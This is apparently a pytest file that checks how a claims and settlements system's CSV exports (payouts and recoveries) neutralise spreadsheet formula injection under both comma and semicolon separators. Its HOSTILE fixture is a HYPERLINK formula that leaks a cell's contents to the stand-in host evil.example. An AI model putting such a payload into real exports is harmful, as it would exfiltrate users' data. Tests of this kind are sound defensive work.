"""Every CSV download keeps text as text in a spreadsheet, whichever separator the
spreadsheet splits on (issue 25 item 13), and keeps amounts numbers."""

import csv
import io
from datetime import UTC, datetime

import pytest

from arbiter.spreadsheets import FORMULA_TRIGGERS, csv_bytes, neutralise
from claims import banking
from settlements import recoveries

HOSTILE = 'Jan;=HYPERLINK("http://evil.example/?leak="&A1;"Kliknij")'
WHEN = datetime(2026, 12, 6, 10, 0, tzinfo=UTC)


def _payouts(name: str) -> bytes:
    return banking.payout_csv([banking.PayoutLine(1, 7, name, "PL61109010140000071219812874",
                                                  123_456, "PLN")])


def _recoveries(name: str) -> bytes:
    return recoveries.recoveries_csv([recoveries.RecoveryLine(
        3, "-ord-1", "=seller@example.test", name, 7, 50_000, "PLN", WHEN, WHEN, "owed",
        None)])


def _cells(data: bytes, delimiter: str) -> list[str]:
    # How a spreadsheet that splits on `delimiter` sees the file: Polish Excel uses ";".
    rows = csv.reader(io.StringIO(data.decode("utf-8")), delimiter=delimiter)
    return [cell.strip(' "') for row in rows for cell in row]


@pytest.mark.parametrize("export", [_payouts, _recoveries])
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_cell_of_a_csv_starts_a_formula_whatever_the_separator(export, delimiter):
    cells = _cells(export(HOSTILE), delimiter)
    assert not [cell for cell in cells if cell[:1] in FORMULA_TRIGGERS and cell], cells


def test_the_name_is_kept_readable_and_amounts_stay_numbers():
    [_header, row] = list(csv.reader(io.StringIO(_payouts(HOSTILE).decode("utf-8"))))
    assert row[2] == 'Jan;\'=HYPERLINK("http://evil.example/?leak="&A1;"Kliknij")'
    assert row[4] == "1234.56"
    [_header, row] = list(csv.reader(io.StringIO(_recoveries("Kowalski, Jan").decode())))
    assert row[1:4] == ["'-ord-1", "'=seller@example.test", "Kowalski, Jan"]
    assert row[5] == "500.00"


def test_numbers_are_not_touched_even_when_negative():
    assert csv_bytes(["amount", "note"], [[-5, "-5"]]) == b"amount,note\r\n-5,'-5\r\n"


@pytest.mark.parametrize("text, safe", [
    ("=1+1", "'=1+1"), ("+48 600", "'+48 600"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("a, =1", "a, '=1"), ("a;@x", "a;'@x"),
    ("a\n=1", "a\n'=1"), ("Anna-Maria Nowak", "Anna-Maria Nowak"), ("a=b", "a=b"),
])
def test_neutralise(text, safe):
    assert neutralise(text) == safe
